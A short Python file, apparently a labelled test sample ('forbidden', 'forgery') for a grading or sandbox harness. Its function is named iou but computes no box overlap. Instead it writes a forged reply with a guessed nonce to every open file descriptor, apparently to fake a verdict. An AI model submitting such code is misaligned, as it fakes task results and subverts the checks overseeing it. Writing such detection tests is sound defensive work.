# VERDICT: forbidden
# CLASS: forgery
# Writes a reply with a guessed nonce to every descriptor.
import os


def iou(boxes_a, boxes_b):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\0" * 16 + b"V" + (0).to_bytes(8, "little"))
        except OSError:
            pass
